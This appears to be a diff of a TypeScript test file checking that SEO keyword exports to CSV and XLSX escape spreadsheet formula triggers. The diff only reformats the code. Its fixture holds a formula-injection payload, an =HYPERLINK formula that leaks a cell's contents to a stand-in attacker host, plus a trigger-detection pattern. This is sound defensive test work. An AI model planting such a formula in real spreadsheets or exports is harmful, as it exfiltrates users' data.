@@ -13,7 +13,13 @@ import { makeHarness, type Harness } from '../helpers/harness'
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 const KEYWORDS = Papa.unparse({
   fields: ['keyword', 'frequency'],
-  data: [[HYPERLINK, 500], ['plastic windows', 1200], ['plastic windows price', 300], ['-cheap windows', 50], ['@SUM(1+1)', 10]],
+  data: [
+    [HYPERLINK, 500],
+    ['plastic windows', 1200],
+    ['plastic windows price', 300],
+    ['-cheap windows', 50],
+    ['@SUM(1+1)', 10],
+  ],
 })
 const TRIGGER = /^[=+\-@\t\r]/
 const decode = (b: Uint8Array) => new TextDecoder().decode(b).replace(/^\ufeff/, '')
@@ -32,7 +38,18 @@ describe('exports safe to open in a spreadsheet; no rating your own work', () =>
     for (const v of ['=1+1', '+cmd', '-x', '@SUM(A1)', '\tx', '\rx']) expect(spreadsheetCell(v)).toBe(`'${v}`)
     for (const v of [-5, 0, 12.5, null, 'windows', '-12', '+3.5', "'=already", '']) expect(spreadsheetCell(v)).toBe(v)
     // in the CSV writer a negative number stays a bare number
-    expect(csvText({ fields: ['n', 's'], data: [[-5, '=1+1'], [-1.5, '-cheap']] }, false)).toBe("-5,'=1+1\r\n-1.5,'-cheap")
+    expect(
+      csvText(
+        {
+          fields: ['n', 's'],
+          data: [
+            [-5, '=1+1'],
+            [-1.5, '-cheap'],
+          ],
+        },
+        false,
+      ),
+    ).toBe("-5,'=1+1\r\n-1.5,'-cheap")
   })
 
   it('SEO plan: a keyword "=HYPERLINK(…)" comes back escaped in CSV and XLSX, frequencies as numbers', async () => {
@@ -55,10 +72,12 @@ describe('exports safe to open in a spreadsheet; no rating your own work', () =>
     const hyperlink = rows.find((r) => r[1] === `'${HYPERLINK}`)
     expect(hyperlink?.[5]).toBe(500) // a number cell, not the text "500"
     for (const sheet of book.worksheets) {
-      sheet.eachRow((row) => row.eachCell((cell) => {
-        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
-        if (typeof cell.value === 'string') expect(cell.value, cell.value).not.toMatch(TRIGGER)
-      }))
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
+          if (typeof cell.value === 'string') expect(cell.value, cell.value).not.toMatch(TRIGGER)
+        }),
+      )
     }
   })
 
